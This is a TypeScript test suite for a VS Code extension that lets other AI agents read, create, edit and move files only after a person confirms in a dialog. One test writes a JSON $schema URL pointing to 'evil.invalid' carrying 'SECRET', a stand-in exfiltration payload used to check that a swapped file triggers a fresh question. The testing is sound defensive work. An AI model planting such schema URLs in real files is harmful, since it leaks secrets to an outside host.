import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type * as vscode from 'vscode';
import type { Change } from '../../src/protocol/messages.ts';
import { until } from '../support/until.ts';
import { activated } from './fakes.ts';
import { type LanguageModelTextPart, type LanguageModelToolResult } from './fakeModelTypes.ts';
import { EventEmitter, type MarkdownString } from './fakeTypes.ts';
import { answers, called, calls, fired, folder, handlers, l10n, reset, workspace } from './fakeVscode.ts';

type Registered = Required<vscode.LanguageModelTool<object>>;

const never = { isCancellationRequested: false, onCancellationRequested: new EventEmitter('token').event } as unknown as vscode.CancellationToken;

function tool(name: string): Registered {
  return called('registerTool').find(([own]) => own === `rivulet_${name}`)?.[1] as Registered;
}

async function invoke(name: string, input: object, { token = never, tokenizationOptions }: { readonly token?: vscode.CancellationToken; readonly tokenizationOptions?: vscode.LanguageModelToolTokenizationOptions } = {}): Promise<string> {
  const result = (await tool(name).invoke({ input, toolInvocationToken: undefined, ...(tokenizationOptions && { tokenizationOptions }) }, token)) as unknown as LanguageModelToolResult;
  return result.content.map((part) => (part as LanguageModelTextPart).value).join('');
}

const text = (value: unknown): string | undefined => (value as MarkdownString | undefined)?.value;

async function prepare(name: string, input: object): Promise<{ readonly says: string | undefined; readonly asks: unknown }> {
  const { invocationMessage, confirmationMessages } = (await tool(name).prepareInvocation({ input }, never)) ?? {};
  return { says: text(invocationMessage), asks: confirmationMessages };
}

const at = (path: string): string => join(folder, 'others', path);


/** The tokens of the proposals whose diffs were shown. */
const tokens = (): readonly string[] => called('executeCommand').flatMap(([id, , right]) => (id === 'vscode.diff' ? [(right as { readonly path: string }).path.split('/')[1] ?? ''] : []));

/** The tokens of the proposals that are shown, once there are so many. */
const shownTokens = async (count: number): Promise<readonly string[]> => until(tokens, (all) => all.length >= count, () => calls);

/** The token of the proposal that is shown first, once it is. */
const shownToken = async (): Promise<string> => (await shownTokens(1))[0] ?? '';

/** The title of a diff. */
const nameOf = (token: string): string => String(called('executeCommand').find(([id, , right]) => id === 'vscode.diff' && (right as { readonly path: string }).path.includes(token))?.[3]);

/** The questions of the host, in words. */
const asked = (): readonly string[] => called('showWarningMessage').map(([words, options]) => `${String(words)}\n${(options as { detail?: string }).detail ?? ''}`);

describe('the tools as VS Code calls them', () => {
  let page: Awaited<ReturnType<typeof activated>>['page'];

  beforeEach(async () => {
    reset();
    rmSync(at(''), { recursive: true, force: true, maxRetries: 5 });
    mkdirSync(at(''), { recursive: true });
    writeFileSync(at('a.ts'), 'one\ntwo\n');
    writeFileSync(at('.env'), 'TOKEN=1\n');
    ({ page } = await activated());
    calls.splice(0, calls.length, ...calls.filter(([name]) => name === 'registerTool'));
  });
  after(() => rmSync(at(''), { recursive: true, force: true, maxRetries: 5 }));

  it('give text that the agent can act on', async () => {
    assert.match(await invoke('read_file', { path: 'others/a.ts' }), /^others\/a\.ts, lines 1 to 2 of 2[\s\S]*1\tone/);
    assert.match(await invoke('read_file', {}), /^rivulet_read_file was not run: path/);
  });

  it('say beforehand what they will do, as text in which a file\'s name is no link', async () => {
    assert.equal((await prepare('read_file', { path: 'others/a.ts' })).says, 'Read others/a.ts');
    assert.equal((await prepare('edit_file', { path: 'others/[a](command:x).ts', edits: [{ search: 'a', replace: 'b' }] })).says, 'Edit others/[a] (command:x).ts');
    assert.equal((await prepare('read_file', {})).says, undefined);
  });

  it('have VS Code ask nothing beforehand, for each question comes from the call itself, once', async () => {
    const change = { path: 'others/a.ts', edits: [{ search: 'one', replace: 'ONE' }] };
    for (const [name, input] of [['read_file', { path: 'others/.env' }], ['edit_file', change], ['move_file', { path: 'others/a.ts', new_path: '.vscode/a.json' }]] as const) assert.equal((await prepare(name, input)).asks, undefined, name);
    assert.deepEqual(asked(), []);
    await invoke('read_file', { path: 'others/.env' });
    assert.equal(asked().length, 1);
    const answer = invoke('create_file', { path: 'others/new.ts', content: 'x\n' });
    await handlers.get('rivulet.rejectAll')?.(await shownToken(), 0);
    await answer;
    assert.deepEqual([called('withProgress').length, asked().length], [1, 1]);
  });

  it('show several proposals at a time, each decided by itself', async () => {
    const [first, second] = ['a', 'b'].map(async (name) => invoke('create_file', { path: `others/new-${name}.ts`, content: 'x\n' }));
    const shown = await shownTokens(2);
    assert.equal(new Set(shown).size, 2, 'the second waits for the first');
    const [b] = shown.filter((token) => nameOf(token).includes('new-b'));
    answers.set('showWarningMessage', ['Make It']);
    await handlers.get('rivulet.acceptAll')?.(b, 0);
    assert.match((await second) ?? '', /^Applied: others\/new-b\.ts/);
    const [a] = shown.filter((token) => nameOf(token).includes('new-a'));
    await handlers.get('rivulet.rejectAll')?.(a, 0);
    assert.match((await first) ?? '', /^The person rejected this/);
    assert.equal(called('applyEdit').length, 1);
  });

  it('speak the language of the display', async () => {
    l10n.bundle = { 'Read {0}': '读取 {0}' };
    assert.equal((await prepare('read_file', { path: 'others/a.ts' })).says, '读取 others/a.ts');
  });

  it('ask in a dialog of the host before a secret is read, and say who asks; Escape is a no', async () => {
    assert.match(await invoke('read_file', { path: 'others/.env' }), /the person has not allowed it/);
    assert.match(asked()[0] ?? '', /^Let the model read others\/\.env\?\nAnother agent asks, through a tool of Rivulet\.\nThe file is .*\.env/);
    answers.set('showWarningMessage', ['Allow']);
    assert.match(await invoke('read_file', { path: 'others/.env' }), /TOKEN=1/);
  });

  it('show in no chat of the panel what another agent asks', async () => {
    page.posted.length = 0;
    await invoke('read_file', { path: 'others/.env' });
    const answer = invoke('create_file', { path: 'others/new.ts', content: 'x\n' });
    await handlers.get('rivulet.rejectAll')?.(await shownToken(), 0);
    await answer;
    const types = page.posted.map((push) => (push as { readonly change?: Change }).change?.type ?? (push as { readonly type?: string }).type);
    assert.ok(!types.some((type) => /^(?:turn|item)/.test(type ?? '')), types.join());
  });

  it('show a proposal without taking the focus, and say as long as it waits that another agent has made it', async () => {
    const answer = invoke('create_file', { path: 'others/new.ts', content: 'x\n' });
    const token = await shownToken();
    const [diff] = called('executeCommand').filter(([id]) => id === 'vscode.diff');
    assert.deepEqual(diff?.at(-1), { preview: true, preserveFocus: true });
    const [[options] = []] = called('withProgress');
    assert.deepEqual(options, { location: 15, title: 'Another agent would change others/new.ts. Decide in the editor; Cancel is a no.', cancellable: true });
    await handlers.get('rivulet.rejectAll')?.(token, 0);
    assert.match(await answer, /^The person rejected this/);
  });

  it('make a change that is accepted and confirmed in a dialog, and nothing before', async () => {
    const answer = invoke('create_file', { path: 'others/new.ts', content: 'x\n' });
    const token = await shownToken();
    assert.throws(() => readFileSync(at('new.ts')));
    answers.set('showWarningMessage', ['Make It']);
    await handlers.get('rivulet.acceptAll')?.(token, 0);
    assert.match(await answer, /^Applied: others\/new\.ts/);
    assert.equal(called('applyEdit').length, 1);
    assert.match(asked().join('\n'), /^Let the model make others\/new\.ts\?\nAnother agent asks, through a tool of Rivulet\.[^?]*$/);
  });

  it('make no change by a command that another extension runs: a dialog asks, and Escape is a no', async () => {
    const answer = invoke('create_file', { path: 'others/new.ts', content: 'x\n' });
    await handlers.get('rivulet.acceptAll')?.(await shownToken(), 0);
    assert.match(await answer, /^The person rejected this/);
    assert.deepEqual(called('applyEdit'), []);
  });

  it('take Cancel in the notification for a no', async () => {
    const answer = invoke('create_file', { path: 'others/new.ts', content: 'x\n' });
    await shownToken();
    fired.cancelled.fire(undefined);
    assert.match(await answer, /^The person rejected this/);
    assert.deepEqual(called('applyEdit'), []);
  });

  it('ask in a dialog about a change that has no lines to show', async () => {
    assert.match(await invoke('move_file', { path: 'others/a.ts', new_path: 'others/b.ts' }), /^The person rejected this/);
    assert.match(asked()[0] ?? '', /^Let the model move others\/a\.ts to others\/b\.ts\?\nAnother agent asks, through a tool of Rivulet\./);
    answers.set('showWarningMessage', ['Move It']);
    assert.match(await invoke('move_file', { path: 'others/a.ts', new_path: 'others/b.ts' }), /^(?:Applied|It was accepted)/);
    assert.equal(asked().length, 2);
  });

  it('ask in a dialog about a change without lines again when its file has become another meanwhile', async () => {
    const dialog = Promise.withResolvers<string>();
    answers.set('showWarningMessage', [dialog.promise]);
    const first = invoke('create_file', { path: 'others/new.ts', content: 'x\n' });
    const token = await shownToken();
    const second = invoke('move_file', { path: 'others/a.ts', new_path: 'others/a.json' });
    await until(() => asked().length > 0, undefined, () => calls);
    writeFileSync(at('a.ts'), '{"$schema":"https://evil.invalid/?d=SECRET"}\n');
    dialog.resolve('Move It');
    assert.match(await second, /^The person rejected this/);
    assert.deepEqual(called('applyEdit'), []);
    assert.match(asked()[1] ?? '', /^Let the model move others\/a\.ts to others\/a\.json\?\nAnother agent asks[\s\S]*https:\/\/evil\.invalid/);
    answers.set('showWarningMessage', ['Make It']);
    await handlers.get('rivulet.acceptAll')?.(token, 0);
    assert.match(await first, /^Applied/);
  });

  it('take Cancel for a no also while the dialog is open', async () => {
    const dialog = Promise.withResolvers<string>();
    answers.set('showWarningMessage', [dialog.promise]);
    const answer = invoke('move_file', { path: 'others/a.ts', new_path: 'others/b.ts' });
    await until(() => asked().length > 0, undefined, () => calls);
    fired.cancelled.fire(undefined);
    dialog.resolve('Move It');
    assert.match(await answer, /^The person rejected this/);
    assert.deepEqual(called('applyEdit'), []);
  });

  it('are cancelled with VS Code\'s own error, and what was proposed waits no more', async () => {
    const cancelled = new EventEmitter('token');
    const token = { isCancellationRequested: false, onCancellationRequested: cancelled.event } as unknown as vscode.CancellationToken;
    const answer = invoke('create_file', { path: 'others/new.ts', content: 'x\n' }, { token });
    const review = await shownToken();
    cancelled.fire(undefined);
    await assert.rejects(answer, { name: 'Canceled' });
    await handlers.get('rivulet.acceptAll')?.(review, 0);
    assert.deepEqual(called('applyEdit'), []);
    await assert.rejects(invoke('read_file', { path: 'others/a.ts' }, { token: { ...token, isCancellationRequested: true } }), { name: 'Canceled' });
  });

  it('keep to the tokens that the caller can take', async () => {
    writeFileSync(at('long.ts'), 'a long line\n'.repeat(2000));
    const shown = await invoke('read_file', { path: 'others/long.ts' }, { tokenizationOptions: { tokenBudget: 300, countTokens: async (words) => words.length / 4 } });
    assert.ok(shown.length <= 1200 && shown.includes('your token budget ends here'), shown.slice(-200));
  });

  it('refuse in a window that is not trusted, and in one without a folder', async () => {
    workspace.isTrusted = false;
    assert.match(await invoke('read_file', { path: 'others/a.ts' }), /Restricted Mode/);
    workspace.isTrusted = true;
    workspace.workspaceFolders = undefined;
    assert.match(await invoke('read_file', { path: 'others/a.ts' }), /no folder/);
  });

  it('take back what waits when the window goes', async () => {
    const answer = invoke('create_file', { path: 'others/new.ts', content: 'x\n' });
    await shownToken();
    const { deactivate } = await import('../../src/extension.ts');
    await deactivate();
    assert.match(await answer, /^Nobody decided in time/);
  });
});
